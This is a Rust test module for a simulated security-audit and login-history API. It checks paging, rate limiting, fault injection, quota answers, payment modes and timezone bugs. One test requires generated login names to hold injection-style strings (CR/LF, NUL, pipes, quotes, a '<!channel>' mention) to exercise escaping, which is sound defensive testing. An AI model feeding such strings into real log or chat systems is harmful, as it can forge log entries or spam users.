    #[tokio::test]
    async fn no_audit_plan_returns_latest_20_regardless_of_params() {
        let sim = sim(SimZone::Utc);
        let from = datetime!(2025-01-01 00:00:00 UTC);
        sim.generate(SimStream::Audit, 100, from, from + time::Duration::days(10));
        let mut long = SimEvent::audit(from + time::Duration::days(20), 5011);
        long.action_text = format!("File Uploaded: {}.docx", "x".repeat(80));
        sim.insert(long);
        sim.set_mode(SimMode::NoAuditPlan);
        let srv = sim
            .serve("127.0.0.1:0".parse().expect("addr"))
            .await
            .expect("serve");
        let r = get(
            srv.addr,
            &format!("{EVENTS}?from=2030-01-01T00:00:00Z&count=100&startIndex=100"),
        )
        .await;
        assert_eq!(r.status, 200);
        let items = r.items();
        assert_eq!(items.len(), 20);
        assert_eq!(
            items[0]["action"],
            format!("File Uploaded: {}...", "x".repeat(47))
        );
        let dates: Vec<&str> = items.iter().filter_map(|i| i["date"].as_str()).collect();
        assert!(dates.windows(2).all(|w| w[0] >= w[1]));
        let r = get(srv.addr, "/api/2.0/security/audit/login/last").await;
        assert_eq!(r.items().len(), 0);
    }

    #[tokio::test]
    async fn injected_faults_in_order() {
        let sim = sim(SimZone::Utc);
        sim.generate(
            SimStream::Login,
            30,
            datetime!(2025-01-01 00:00 UTC),
            datetime!(2025-01-02 00:00 UTC),
        );
        let srv = sim
            .serve("127.0.0.1:0".parse().expect("addr"))
            .await
            .expect("serve");
        sim.inject(
            SimFault::TooManyRequests {
                retry_after: Some(0),
            },
            2,
        );
        sim.inject(SimFault::TooManyRequests { retry_after: None }, 1);
        sim.inject(SimFault::ServerError(503), 1);
        sim.inject(SimFault::BadGatewayHtml, 1);
        sim.inject(SimFault::Truncated, 1);
        sim.inject(SimFault::Malformed, 1);
        sim.inject(SimFault::Delay(Duration::from_millis(50)), 1);
        for _ in 0..2 {
            let r = get(srv.addr, LOGIN).await;
            assert_eq!(r.status, 429);
            assert_eq!(r.header("retry-after"), Some("0"));
            assert_eq!(r.header("x-ratelimit-limit"), Some("1500"));
            assert_eq!(r.header("x-ratelimit-remaining"), Some("0"));
            assert_eq!(r.body, "");
        }
        let r = get(srv.addr, EVENTS).await;
        assert_eq!((r.status, r.header("retry-after")), (429, None));
        let r = get(srv.addr, LOGIN).await;
        assert_eq!(r.status, 503);
        assert_eq!(r.json()["statusCode"], 503);
        assert!(r.json()["error"]["type"].is_null());
        let r = get(srv.addr, LOGIN).await;
        assert_eq!(r.status, 502);
        assert!(r.body.contains("<title>502 Bad Gateway</title>"));
        let r = get(srv.addr, LOGIN).await;
        assert_eq!(r.status, 200);
        assert!(r.body.starts_with("{\"response\":[{"));
        assert!(serde_json::from_str::<serde_json::Value>(&r.body).is_err());
        let r = get(srv.addr, LOGIN).await;
        assert_eq!(r.status, 200);
        assert_eq!(
            r.header("content-type"),
            Some("application/json; charset=utf-8")
        );
        assert!(serde_json::from_str::<serde_json::Value>(&r.body).is_err());
        let started = std::time::Instant::now();
        let r = get(srv.addr, LOGIN).await;
        assert!(started.elapsed() >= Duration::from_millis(50));
        assert_eq!(r.items().len(), 30);
        assert_eq!(get(srv.addr, LOGIN).await.status, 200);
        let statuses: Vec<u16> = sim.requests().iter().map(|r| r.status).collect();
        assert_eq!(statuses, vec![429, 429, 429, 503, 502, 200, 200, 200, 200]);
    }

    #[tokio::test]
    async fn insert_during_paging_adds_rows_and_shifts_offsets() {
        let sim = sim(SimZone::Utc);
        sim.generate(
            SimStream::Login,
            150,
            datetime!(2025-01-01 00:00 UTC),
            datetime!(2025-01-05 00:00 UTC),
        );
        let before = sim.ids(SimStream::Login);
        sim.insert_during_paging(SimStream::Login, 3, 2);
        let srv = sim
            .serve("127.0.0.1:0".parse().expect("addr"))
            .await
            .expect("serve");
        let p1 = get(srv.addr, &format!("{LOGIN}?count=100")).await;
        assert_eq!(sim.len(SimStream::Login), 153);
        let p2 = get(srv.addr, &format!("{LOGIN}?count=100&startIndex=100")).await;
        assert_eq!(sim.len(SimStream::Login), 156);
        let _ = get(srv.addr, EVENTS).await;
        let _ = get(srv.addr, LOGIN).await;
        assert_eq!(sim.len(SimStream::Login), 156);
        // The first page starts with the 3 fresh rows; page two repeats 3 rows of page one.
        let ids1: Vec<i64> = p1.items().iter().filter_map(|i| i["id"].as_i64()).collect();
        let ids2: Vec<i64> = p2.items().iter().filter_map(|i| i["id"].as_i64()).collect();
        assert!(ids1[..3].iter().all(|id| !before.contains(id)));
        assert_eq!(ids2.iter().filter(|id| ids1.contains(id)).count(), 3);
        let all = sim.ids(SimStream::Login);
        assert!(all.windows(2).all(|w| w[0] < w[1]));
    }

    #[tokio::test]
    async fn late_rows_get_larger_ids_and_sort_by_date() {
        let sim = sim(SimZone::Utc);
        let a = sim.insert(SimEvent::audit(datetime!(2025-01-01 10:00 UTC), 5011));
        let b = sim.insert(SimEvent::audit(datetime!(2025-01-01 09:00 UTC), 5009));
        assert!(b > a);
        let srv = sim
            .serve("127.0.0.1:0".parse().expect("addr"))
            .await
            .expect("serve");
        let ids: Vec<i64> = get(srv.addr, EVENTS)
            .await
            .items()
            .iter()
            .filter_map(|i| i["id"].as_i64())
            .collect();
        assert_eq!(ids, vec![a, b]);
        srv.shutdown();
    }

    #[test]
    fn generated_data_is_realistic_and_hostile() {
        let sim = sim(SimZone::Utc);
        let from = datetime!(2025-01-01 00:00 UTC);
        let to = datetime!(2025-03-01 00:00 UTC);
        sim.generate(SimStream::Login, 3000, from, to);
        sim.generate(SimStream::Audit, 1000, from, to);
        assert_eq!(sim.len(SimStream::Login), 3000);
        assert_eq!(sim.len(SimStream::Audit), 1000);
        let g = sim.lock();
        let rows = &g.login.rows;
        assert!(
            rows.windows(2)
                .all(|w| w[0].ev.date <= w[1].ev.date && w[0].id < w[1].id)
        );
        assert!(rows.iter().all(|r| r.ev.date >= from && r.ev.date <= to));
        let has = |f: &dyn Fn(&SimEvent) -> bool| rows.iter().any(|r| f(&r.ev));
        assert!(has(&|e| e.action_id == 1023));
        assert!(has(&|e| e.action_id == 1029 && e.login.is_none()));
        assert!(has(&|e| render_ip(&e.ip).len() == 4 && !e.ip.contains('.')));
        assert!(has(&|e| e.country.is_empty() && e.ip.starts_with("10.")));
        for needle in [
            "|",
            "=",
            "\\",
            "\"",
            "]",
            "\r",
            "\n",
            "\0",
            "\u{2028}",
            "<!channel>",
        ] {
            assert!(
                has(&|e| e.login.as_deref().is_some_and(|l| l.contains(needle))),
                "{needle:?}"
            );
        }
        assert!(has(&|e| e.login.as_deref().is_some_and(|l| l.len() > 1000)));
        let failures = rows
            .iter()
            .filter(|r| is_login_failure(r.ev.action_id))
            .count();
        assert!(
            rows.iter()
                .filter(|r| is_login_failure(r.ev.action_id))
                .all(|r| r.ev.login.is_some())
        );
        assert!(failures > 100 && failures < 1500, "{failures}");
        let audit = &g.audit.rows;
        assert!(
            audit
                .iter()
                .any(|r| r.ev.action_id == 5011 && r.ev.action_text.starts_with("File Uploaded: "))
        );
        assert!(
            audit
                .iter()
                .filter(|r| r.ev.action_id == 6035)
                .all(|r| r.ev.target.is_none() && r.ev.entries.is_empty())
        );
        assert!(
            audit
                .iter()
                .filter(|r| r.ev.action_id == 4000)
                .all(|r| r.ev.location == 30 && r.ev.entries == [23])
        );
    }

    #[test]
    fn limited_text_only_cuts_substituted_values() {
        let long = "Successful Login via API & authenticator application";
        let ev = SimEvent::login(datetime!(2025-01-01 00:00 UTC), 1024);
        assert_eq!(limited_action_text(&ev), long);
        let mut up = SimEvent::audit(datetime!(2025-01-01 00:00 UTC), 5017);
        up.action_text = render_template(
            "Files [{0}]. Moved To Trash Folder",
            &format!("{},b", "y".repeat(60)),
        );
        assert_eq!(
            limited_action_text(&up),
            format!("Files [{}..., b]. Moved To Trash Folder", "y".repeat(47))
        );
    }

    #[tokio::test]
    async fn spawn_live_inserts_until_cancelled() {
        let sim = sim(SimZone::Utc);
        let cancel = CancellationToken::new();
        let task = sim.spawn_live(200.0, cancel.clone());
        tokio::time::sleep(Duration::from_millis(300)).await;
        cancel.cancel();
        task.await.expect("live task");
        let n = sim.len(SimStream::Login) + sim.len(SimStream::Audit);
        assert!(n > 5, "{n}");
        tokio::time::sleep(Duration::from_millis(50)).await;
        assert_eq!(sim.len(SimStream::Login) + sim.len(SimStream::Audit), n);
    }

    /// The naive `ORDER BY date DESC, id DESC` of a table, as ids.
    fn naive_order(sim: &Simulator, stream: SimStream) -> Vec<i64> {
        let g = sim.lock();
        let mut rows: Vec<&Row> = g.table(stream).rows.iter().collect();
        rows.sort_by(|a, b| b.ev.date.cmp(&a.ev.date).then(b.id.cmp(&a.id)));
        rows.iter().map(|r| r.id).collect()
    }

    fn cached_order(sim: &Simulator, stream: SimStream) -> Vec<i64> {
        let mut g = sim.lock();
        let t = g.sorted(stream);
        t.order.iter().map(|&i| t.rows[i as usize].id).collect()
    }

    #[tokio::test]
    async fn cached_order_stays_exact_across_bulk_loads_and_late_rows() {
        let sim = sim(SimZone::Utc);
        let (a, b) = (
            datetime!(2025-01-01 00:00 UTC),
            datetime!(2025-01-02 00:00 UTC),
        );
        sim.generate(SimStream::Login, 300, a, b);
        sim.generate(SimStream::Audit, 300, a, b);
        for stream in [SimStream::Login, SimStream::Audit] {
            assert_eq!(cached_order(&sim, stream), naive_order(&sim, stream));
        }
        // Single inserts after the order is built: late rows, same-second rows, newest rows.
        for (i, date) in [
            datetime!(2025-01-01 12:00 UTC),
            datetime!(2025-01-01 12:00 UTC),
            datetime!(2024-12-31 00:00 UTC),
            datetime!(2025-01-03 00:00 UTC),
        ]
        .into_iter()
        .enumerate()
        {
            sim.insert(SimEvent::login(date, 1010));
            sim.insert(SimEvent::audit(date, 5011 + i as i32));
        }
        sim.generate(SimStream::Login, 50, a, b);
        for stream in [SimStream::Login, SimStream::Audit] {
            assert_eq!(cached_order(&sim, stream), naive_order(&sim, stream));
        }
        // Served pages follow it: login pages window first, audit pages filter first.
        let srv = sim
            .serve("127.0.0.1:0".parse().expect("addr"))
            .await
            .expect("serve");
        let order = naive_order(&sim, SimStream::Login);
        let p = get(srv.addr, &format!("{LOGIN}?count=100&startIndex=250")).await;
        let ids: Vec<i64> = p.items().iter().filter_map(|i| i["id"].as_i64()).collect();
        assert_eq!(ids, order[250..350]);
        let (from, to) = (
            datetime!(2025-01-01 06:00 UTC),
            datetime!(2025-01-01 18:00 UTC),
        );
        let expect: Vec<i64> = {
            let g = sim.lock();
            let mut rows: Vec<&Row> = g
                .audit
                .rows
                .iter()
                .filter(|r| r.ev.date >= from && r.ev.date <= to)
                .collect();
            rows.sort_by(|a, b| b.ev.date.cmp(&a.ev.date).then(b.id.cmp(&a.id)));
            rows.iter().map(|r| r.id).collect()
        };
        assert!(expect.len() > 120, "{}", expect.len());
        let mut got = Vec::new();
        for start in [0, 100] {
            let p = get(
                srv.addr,
                &format!(
                    "{EVENTS}?from=2025-01-01T06:00:00Z&to=2025-01-01T18:00:00Z&count=100&startIndex={start}"
                ),
            )
            .await;
            got.extend(p.items().iter().filter_map(|i| i["id"].as_i64()));
        }
        assert_eq!(got, expect);
        // With another filter the fast path is off, and the filter still applies before paging.
        let p = get(
            srv.addr,
            &format!("{EVENTS}?from=2025-01-01T06:00:00Z&to=2025-01-01T18:00:00Z&actionType=2"),
        )
        .await;
        assert!(p.items().iter().all(|i| i["actionType"] == 2));
    }

    #[tokio::test]
    async fn rate_limit_answers_429_with_retry_after_and_latency_delays() {
        let sim = sim(SimZone::Utc);
        sim.set_rate_limit(Some(3));
        sim.set_latency(Duration::from_millis(40));
        let srv = sim
            .serve("127.0.0.1:0".parse().expect("addr"))
            .await
            .expect("serve");
        let started = std::time::Instant::now();
        for _ in 0..3 {
            assert_eq!(get(srv.addr, LOGIN).await.status, 200);
        }
        assert!(started.elapsed() >= Duration::from_millis(120));
        let r = get(srv.addr, LOGIN).await;
        assert_eq!(r.status, 429);
        assert_eq!(r.body, "");
        assert_eq!(r.header("x-ratelimit-limit"), Some("3"));
        let after: u32 = r
            .header("retry-after")
            .and_then(|v| v.parse().ok())
            .expect("Retry-After");
        assert!(after <= 60, "{after}");
        assert_eq!(sim.rate_limited(), 1);
        assert_eq!(sim.request_count(), 4);
        sim.set_rate_limit(None);
        assert_eq!(get(srv.addr, LOGIN).await.status, 200);
    }

    const QUOTA: &str = "/api/2.0/portal/quota";

    async fn serve(sim: &Simulator) -> SimServer {
        sim.serve("127.0.0.1:0".parse().expect("addr"))
            .await
            .expect("serve")
    }

    fn ids(r: &Resp) -> Vec<i64> {
        r.items().iter().filter_map(|i| i["id"].as_i64()).collect()
    }

    #[tokio::test]
    async fn portal_quota_answers_the_tenant_quota() {
        let sim = sim(SimZone::Utc);
        let srv = serve(&sim).await;
        let r = get(srv.addr, "/API/2.0/Portal/Quota/").await;
        assert_eq!(r.status, 200);
        assert_eq!(
            r.header("content-type"),
            Some("application/json; charset=utf-8")
        );
        assert!(
            r.body.starts_with(
                "{\"response\":{\"tenantId\":-9,\"name\":\"admin\",\"price\":100,\"productId\":\"1006\",\
                 \"visible\":true,\"wallet\":false,\"dueDate\":\""
            ),
            "{}",
            r.body
        );
        // Members in `TenantQuota.cs` declaration order.
        let keys = [
            "\"features\":",
            "\"maxFileSize\":1073741824,",
            "\"maxTotalSize\":1342177280000,",
            "\"countUser\":2147483647,",
            "\"countRoomAdmin\":5,",
            "\"audit\":true,",
            "\"ldap\":true,",
            "\"sso\":true,",
            "\"countFreeBackup\":2,",
            "\"countAIAgent\":2147483647,",
            "\"aiTools\":false}",
        ];
        let at: Vec<usize> = keys
            .iter()
            .map(|k| {
                r.body
                    .find(k)
                    .unwrap_or_else(|| panic!("{k} in {}", r.body))
            })
            .collect();
        assert!(at.windows(2).all(|w| w[0] < w[1]), "{}", r.body);
        let j = r.json();
        assert_eq!(
            (j["count"].as_i64(), j["status"].as_i64()),
            (Some(1), Some(0))
        );
        let features = j["response"]["features"].as_str().expect("features");
        assert!(features.split(',').any(|f| f == "audit"), "{features}");
        assert!(j["response"].get("priceCurrencySymbol").is_none());

        // Without audit on the plan: the free "startup" plan.
        sim.set_mode(SimMode::NoAuditPlan);
        let j = get(srv.addr, QUOTA).await.json();
        assert_eq!(j["response"]["audit"], false);
        assert_eq!(j["response"]["name"], "startup");
        assert!(j["response"].get("productId").is_none());
        let features = j["response"]["features"].as_str().expect("features");
        assert!(!features.split(',').any(|f| f == "audit"), "{features}");
        // The hidden section and the 402 of the audit checks are invisible to the quota.
        for mode in [SimMode::HiddenLoginHistory, SimMode::PaymentRequired] {
            sim.set_mode(mode);
            let r = get(srv.addr, QUOTA).await;
            assert_eq!(
                (r.status, r.json()["response"]["audit"].as_bool()),
                (200, Some(true))
            );
        }
        // Same auth and permission as the audit routes.
        sim.set_mode(SimMode::Normal);
        for auth in [None, Some("Bearer sk-wrong")] {
            let r = get_raw(srv.addr, QUOTA, auth).await;
            assert_eq!((r.status, r.body.as_str()), (401, ""));
        }
        sim.set_mode(SimMode::Forbidden);
        let r = get(srv.addr, QUOTA).await;
        assert_eq!(r.status, 403);
        assert_eq!(r.json()["error"]["message"], "Access denied");
        assert_eq!(r.json()["statusCode"], 403);
        let stack = r.json()["error"]["stack"].as_str().unwrap_or("").to_owned();
        assert!(
            stack.ends_with("PortalController.GetPortalQuota()"),
            "{stack}"
        );
    }

    #[tokio::test]
    async fn hidden_login_history_falls_back_while_the_quota_says_audit() {
        let sim = sim(SimZone::Utc);
        let from = datetime!(2025-01-01 00:00:00 UTC);
        sim.generate(SimStream::Login, 60, from, from + time::Duration::days(2));
        sim.generate(SimStream::Audit, 60, from, from + time::Duration::days(2));
        sim.set_mode(SimMode::HiddenLoginHistory);
        let srv = serve(&sim).await;
        assert_eq!(get(srv.addr, QUOTA).await.json()["response"]["audit"], true);
        for target in [LOGIN, EVENTS] {
            let last = get(srv.addr, &target.replace("/filter", "/last")).await;
            for q in [
                "count=1",
                "count=5&startIndex=40",
                "from=2000-01-01T00:00:00Z&to=2000-01-02T00:00:00Z",
            ] {
                let r = get(srv.addr, &format!("{target}?{q}")).await;
                assert_eq!(r.status, 200, "{target}?{q}");
                assert_eq!(ids(&r), ids(&last), "{target}?{q}");
                assert_eq!(r.items().len(), 20, "{target}?{q}");
            }
        }
        // A bad parameter is still a 400: binding runs before the action.
        assert_eq!(get(srv.addr, &format!("{LOGIN}?count=0")).await.status, 400);
    }

    #[tokio::test]
    async fn unpaid_portal_answers_a_bare_402() {
        let sim = sim(SimZone::Utc);
        sim.insert(SimEvent::login(datetime!(2025-01-01 00:00:00 UTC), 1029));
        sim.set_mode(SimMode::Unpaid);
        let srv = serve(&sim).await;
        for target in [
            LOGIN,
            EVENTS,
            "/api/2.0/security/audit/login/last",
            "/api/2.0/security/audit/events/last",
            "/api/2.0/security/audit/settings/lifetime",
            // `PaymentFilter` runs before model binding: no 400.
            "/api/2.0/security/audit/login/filter?count=0",
        ] {
            let r = get(srv.addr, target).await;
            assert_eq!((r.status, r.body.as_str()), (402, ""), "{target}");
            assert_eq!(r.header("content-type"), None, "{target}");
        }
        // Authentication comes first.
        let r = get_raw(srv.addr, LOGIN, None).await;
        assert_eq!((r.status, r.body.as_str()), (401, ""));
        // `[AllowNotPayment]` routes still answer.
        let r = get(srv.addr, QUOTA).await;
        assert_eq!(
            (r.status, r.json()["response"]["audit"].as_bool()),
            (200, Some(true))
        );
        assert!(
            get(srv.addr, "/api/2.0/authentication")
                .await
                .body
                .starts_with("{\"response\":true,")
        );
        // `Payment-Info: false` skips the filter; `true` keeps it.
        let key = format!("Bearer {KEY}");
        let r = get_raw_with(srv.addr, LOGIN, Some(&key), &[("Payment-Info", "false")]).await;
        assert_eq!((r.status, r.items().len()), (200, 1));
        let r = get_raw_with(srv.addr, LOGIN, Some(&key), &[("Payment-Info", "True")]).await;
        assert_eq!(r.status, 402);
    }

    #[test]
    fn fall_back_bug_renders_the_first_pass_an_hour_late() {
        let berlin = SimZone::EuropeBerlin;
        for (at, fixed, buggy) in [
            (
                datetime!(2025-10-25 23:59:59 UTC),
                "2025-10-26T01:59:59.0000000+02:00",
                "2025-10-26T01:59:59.0000000+02:00",
            ),
            (
                datetime!(2025-10-26 00:00:00 UTC),
                "2025-10-26T02:00:00.0000000+02:00",
                "2025-10-26T02:00:00.0000000+01:00",
            ),
            (
                datetime!(2025-10-26 00:30:00 UTC),
                "2025-10-26T02:30:00.0000000+02:00",
                "2025-10-26T02:30:00.0000000+01:00",
            ),
            (
                datetime!(2025-10-26 00:59:59 UTC),
                "2025-10-26T02:59:59.0000000+02:00",
                "2025-10-26T02:59:59.0000000+01:00",
            ),
            // The second pass is standard time anyway.
            (
                datetime!(2025-10-26 01:30:00 UTC),
                "2025-10-26T02:30:00.0000000+01:00",
                "2025-10-26T02:30:00.0000000+01:00",
            ),
            // Spring forward has no ambiguous wall time.
            (
                datetime!(2025-03-30 00:30:00 UTC),
                "2025-03-30T01:30:00.0000000+01:00",
                "2025-03-30T01:30:00.0000000+01:00",
            ),
            (
                datetime!(2024-10-27 00:15:00 UTC),
                "2024-10-27T02:15:00.0000000+02:00",
                "2024-10-27T02:15:00.0000000+01:00",
            ),
        ] {
            assert_eq!(berlin.format(at), fixed, "{at}");
            assert_eq!(berlin.format_with_fall_back_bug(at), buggy, "{at}");
        }
        let utc = datetime!(2025-10-26 00:30:00 UTC);
        assert_eq!(
            SimZone::Utc.format_with_fall_back_bug(utc),
            SimZone::Utc.format(utc)
        );
    }

    #[tokio::test]
    async fn fall_back_bug_returns_a_row_dated_after_the_window() {
        let sim = sim(SimZone::EuropeBerlin);
        let first_pass = sim.insert(SimEvent::login(datetime!(2025-10-26 00:30:00 UTC), 1029));
        let second_pass = sim.insert(SimEvent::login(datetime!(2025-10-26 01:30:00 UTC), 1029));
        sim.insert(SimEvent::audit(datetime!(2025-10-26 00:45:00 UTC), 5011));
        let srv = serve(&sim).await;
        let window = "from=2025-10-26T00:00:00Z&to=2025-10-26T00:59:59Z";
        // Off by default: the true offset.
        let r = get(srv.addr, &format!("{LOGIN}?{window}")).await;
        assert_eq!(r.items()[0]["date"], "2025-10-26T02:30:00.0000000+02:00");

        sim.set_fall_back_bug(true);
        let r = get(srv.addr, &format!("{LOGIN}?{window}")).await;
        // The server filters on the stored instant (00:30Z), so the row is in the window ...
        assert_eq!(ids(&r), vec![first_pass]);
        let shown = r.items()[0]["date"].as_str().unwrap_or("").to_owned();
        assert_eq!(shown, "2025-10-26T02:30:00.0000000+01:00");
        // ... while its rendered date (01:30Z) lies after `to`.
        let rendered =
            OffsetDateTime::parse(&shown, &time::format_description::well_known::Rfc3339)
                .expect("rfc3339");
        assert!(rendered > datetime!(2025-10-26 00:59:59 UTC), "{rendered}");
        // Both passes of the hour now show the same date; the audit stream is affected alike.
        let r = get(srv.addr, LOGIN).await;
        assert_eq!(ids(&r), vec![second_pass, first_pass]);
        assert_eq!(r.items()[0]["date"], r.items()[1]["date"]);
        let r = get(srv.addr, &format!("{EVENTS}?{window}")).await;
        assert_eq!(r.items()[0]["date"], "2025-10-26T02:45:00.0000000+01:00");
        sim.set_fall_back_bug(false);
        let r = get(srv.addr, &format!("{EVENTS}?{window}")).await;
        assert_eq!(r.items()[0]["date"], "2025-10-26T02:45:00.0000000+02:00");
    }

    #[tokio::test]
    async fn random_tie_order_reshuffles_every_answer() {
        let sim = sim(SimZone::Utc);
        let busy = datetime!(2025-05-05 10:00:00 UTC);
        let newer = sim.insert(SimEvent::login(busy + time::Duration::SECOND, 1029));
        let mut tied: Vec<i64> = (0..150)
            .map(|_| sim.insert(SimEvent::login(busy, 1013)))
            .collect();
        let older = sim.insert(SimEvent::login(busy - time::Duration::SECOND, 1029));
        for _ in 0..150 {
            sim.insert(SimEvent::audit(busy, 5011));
        }
        let srv = serve(&sim).await;
        let page1 = format!("{LOGIN}?count=100");
        let page2 = format!("{LOGIN}?count=100&startIndex=100");
        // Off by default: `date DESC, id DESC`, stable.
        let a = ids(&get(srv.addr, &page1).await);
        assert_eq!(a, ids(&get(srv.addr, &page1).await));
        tied.reverse();
        assert_eq!(a[0], newer);
        assert_eq!(a[1..], tied[..99]);

        sim.set_random_tie_order(true);
        let mut differ = 0;
        let mut lost = 0;
        for _ in 0..5 {
            let (x, y) = (
                ids(&get(srv.addr, &page1).await),
                ids(&get(srv.addr, &page1).await),
            );
            assert_eq!((x.len(), x[0]), (100, newer));
            differ += usize::from(x != y);
            // A walk of the busy second by offset: page two is cut from another order.
            let z = ids(&get(srv.addr, &page2).await);
            assert_eq!((z.len(), z[z.len() - 1]), (52, older));
            let mut seen: Vec<i64> = x.iter().chain(&z).copied().collect();
            seen.sort_unstable();
            seen.dedup();
            assert!(seen.len() <= 152);
            lost += 152 - seen.len();
        }
        assert!(differ >= 4, "{differ}");
        assert!(lost > 0, "offset paging across the second lost no row");
        // Filtered pages, the audit stream and `*/last` too.
        let q = format!("{EVENTS}?from=2025-05-05T10:00:00Z&to=2025-05-05T10:00:00Z&count=20");
        assert_ne!(ids(&get(srv.addr, &q).await), ids(&get(srv.addr, &q).await));
        let last = "/api/2.0/security/audit/login/last";
        let (x, y) = (
            ids(&get(srv.addr, last).await),
            ids(&get(srv.addr, last).await),
        );
        assert_eq!((x.len(), x[0]), (20, newer));
        assert_ne!(x, y);
    }

    #[test]
    fn page_shuffles_only_the_seconds_it_touches() {
        let t = datetime!(2025-01-01 00:00:00 UTC);
        // Seconds: 3 rows at t+2, 4 rows at t+1, 3 rows at t (date desc).
        let dates: Vec<OffsetDateTime> = [2, 2, 2, 1, 1, 1, 1, 0, 0, 0]
            .iter()
            .map(|s| t + time::Duration::seconds(*s))
            .collect();
        let seq: Vec<u32> = (0..10).collect();
        let date = |i: u32| dates[i as usize];
        let mut rng = fastrand::Rng::with_seed(1);
        assert_eq!(page(&seq, 4, 2, date, None), vec![4, 5]);
        // The last row of the oldest second: any of that second's three rows.
        let p = page(&seq, 9, 5, date, Some(&mut rng));
        assert!(p.len() == 1 && (7..10).contains(&p[0]), "{p:?}");
        assert!(page(&seq, 10, 5, date, Some(&mut rng)).is_empty());
        for _ in 0..50 {
            let p = page(&seq, 4, 2, date, Some(&mut rng));
            assert_eq!(p.len(), 2);
            assert!(p.iter().all(|i| (3..7).contains(i)), "{p:?}");
            let p = page(&seq, 2, 6, date, Some(&mut rng));
            assert!(
                p.iter().all(|i| (0..10).contains(i)) && p.len() == 6,
                "{p:?}"
            );
            assert!(p[1..5].iter().all(|i| (3..7).contains(i)), "{p:?}");
        }
        assert_eq!(
            prefix(seq.iter().copied(), 4, date),
            vec![0, 1, 2, 3, 4, 5, 6]
        );
        assert_eq!(prefix(seq.iter().copied(), 0, date), Vec::<u32>::new());
    }

    #[tokio::test]
    async fn null_ip_login_poisons_only_the_answers_that_hold_it() {
        let sim = sim(SimZone::Utc);
        let base = datetime!(2025-06-01 12:00:00 UTC);
        for i in (0..30).rev() {
            sim.insert(SimEvent::login(base - time::Duration::minutes(i), 1029));
        }
        // Newer than the 12th row: position 11 of the log.
        let bad = sim.insert_null_ip_login(base - time::Duration::seconds(630));
        sim.insert(SimEvent::audit(base, 5011));
        let srv = serve(&sim).await;
        let poisoned = |r: &Resp| {
            let j = r.json();
            r.status == 500
                && j["status"] == 1
                && j["statusCode"] == 500
                && j["error"]["message"] == "Object reference not set to an instance of an object."
                && j["error"]["type"] == "System.NullReferenceException"
                && j["error"]["stack"]
                    .as_str()
                    .is_some_and(|s| s.contains("EventTypeConverter.Convert"))
        };
        for q in [
            "",
            "?count=100",
            "?count=12",
            "?count=1&startIndex=11",
            "?action=1028",
        ] {
            let r = get(srv.addr, &format!("{LOGIN}{q}")).await;
            assert!(poisoned(&r), "{q}: {} {}", r.status, r.body);
        }
        assert!(poisoned(
            &get(srv.addr, "/api/2.0/security/audit/login/last").await
        ));
        // Around it: a smaller page, the next pages, a window that filters it out.
        for (q, n) in [
            ("?count=11", 11),
            ("?count=10&startIndex=12", 10),
            ("?count=100&startIndex=12", 19),
            ("?from=2025-06-01T11:50:00Z", 11),
            ("?to=2025-06-01T11:49:00Z", 19),
            ("?count=100&action=1029", 30),
        ] {
            let r = get(srv.addr, &format!("{LOGIN}{q}")).await;
            assert_eq!((r.status, r.items().len()), (200, n), "{q}: {}", r.body);
            assert!(!ids(&r).contains(&bad), "{q}");
        }
        // The audit conversion has a null check; and the fallback holds the row too.
        assert_eq!(get(srv.addr, EVENTS).await.status, 200);
        sim.set_mode(SimMode::NoAuditPlan);
        assert!(poisoned(&get(srv.addr, &format!("{LOGIN}?count=1")).await));
    }

    #[tokio::test]
    async fn unmapped_audit_actions_are_left_out_and_fail_when_asked_for() {
        assert_eq!(UNMAPPED_AUDIT_ACTIONS.len(), 11);
        for code in UNMAPPED_AUDIT_ACTIONS {
            assert!(message_action_defined(i64::from(*code)), "{code}");
            assert!(audit_map(*code).is_none(), "{code}");
        }
        let sim = sim(SimZone::Utc);
        let t = datetime!(2025-04-01 08:00:00 UTC);
        let at = |m: i64| t + time::Duration::minutes(m);
        let mut visible = Vec::new();
        for (m, code) in [
            (0, 5011),
            (1, 7001),
            (2, 6035),
            (3, 5102),
            (4, 7002),
            (5, 5000),
        ] {
            let id = sim.insert(SimEvent::audit(at(m), code));
            if !is_unmapped(code) {
                visible.push(id);
            }
        }
        visible.reverse();
        let srv = serve(&sim).await;
        let r = get(srv.addr, EVENTS).await;
        assert_eq!(ids(&r), visible);
        let r = get(srv.addr, "/api/2.0/security/audit/events/last").await;
        assert_eq!(ids(&r), visible);
        // Paging counts only what the API can return.
        let r = get(srv.addr, &format!("{EVENTS}?count=1&startIndex=1")).await;
        assert_eq!(ids(&r), visible[1..2]);
        let r = get(
            srv.addr,
            &format!("{EVENTS}?from=2025-04-01T08:00:00Z&to=2025-04-01T08:04:00Z&count=2"),
        )
        .await;
        assert_eq!(ids(&r), visible[1..3]);
        // Asking for one of them: the DTO dereferences the missing mapping.
        for q in [
            "action=7001",
            "action=RoomColorChanged",
            "action=7002&count=1",
        ] {
            let r = get(srv.addr, &format!("{EVENTS}?{q}")).await;
            assert_eq!(r.status, 500, "{q}");
            let j = r.json();
            assert_eq!(j["error"]["type"], "System.NullReferenceException", "{q}");
            let stack = j["error"]["stack"].as_str().unwrap_or("");
            assert!(stack.contains("AuditEventDto..ctor"), "{q}: {stack}");
        }
        // An answer without such a row is fine.
        for q in ["action=7001&to=2025-04-01T08:00:30Z", "action=7003"] {
            let r = get(srv.addr, &format!("{EVENTS}?{q}")).await;
            assert_eq!((r.status, r.items().len()), (200, 0), "{q}");
        }
        let r = get(srv.addr, &format!("{EVENTS}?action=6035")).await;
        assert_eq!((r.status, r.items().len()), (200, 1));
    }
}
